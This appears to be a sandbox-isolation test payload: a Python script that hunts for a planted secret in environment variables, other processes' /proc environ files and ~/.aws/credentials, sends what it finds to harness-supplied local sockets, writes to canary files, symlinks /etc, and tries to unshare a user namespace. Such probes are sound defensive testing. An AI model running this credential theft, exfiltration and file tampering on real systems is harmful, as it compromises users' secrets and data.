"""Looks for secrets, calls home with them, and writes wherever it can."""

import contextlib
import ctypes
import glob
import json
import os
import socket

loot = {"secrets": [], "connected": [], "wrote": [], "writable": [], "namespaces": []}
secret = TARGETS["secret"].encode()  # noqa: F821


def holds_secret(path):
    with contextlib.suppress(OSError), open(path, "rb") as stream:
        return secret in stream.read(1 << 20)
    return False


if secret.decode() in os.environ.values():
    loot["secrets"].append("environment")
if any(holds_secret(path) for path in glob.glob("/proc/[0-9]*/environ")):
    loot["secrets"].append("environment of another process")
if any(holds_secret(path) for path in [TARGETS["home_file"], os.path.expanduser("~/.aws/credentials")]):  # noqa: F821
    loot["secrets"].append("home")
for family, address in ((socket.AF_INET, ("127.0.0.1", TARGETS["port"])), (socket.AF_UNIX, TARGETS["abstract"])):  # noqa: F821
    try:
        with socket.socket(family) as line:
            line.settimeout(2)
            line.connect(address)
            line.sendall(json.dumps(loot["secrets"]).encode())
        loot["connected"].append(family.name)
    except OSError:
        pass
for path in (TARGETS["canary"], TARGETS["outside"] + "/new", TARGETS["snapshot"] + "/MLmodel"):  # noqa: F821
    try:
        with open(path, "a") as stream:
            stream.write("# attacked\n")
        loot["wrote"].append(path)
    except OSError:
        pass
with contextlib.suppress(OSError):
    os.symlink("/etc", TARGETS["outside"] + "/link")  # noqa: F821
    loot["wrote"].append("link")
for path in TARGETS["precious"]:  # noqa: F821
    with contextlib.suppress(OSError):
        open(path, "r+b").close()  # opened, never written: the control runs for real
        loot["writable"].append(path)
libc = ctypes.CDLL(None)
if libc.unshare(0x10000000) == 0:  # CLONE_NEWUSER
    loot["namespaces"].append("user")
print("\x1b[2J\x1b]0;owned\x07", json.dumps(loot), flush=True)
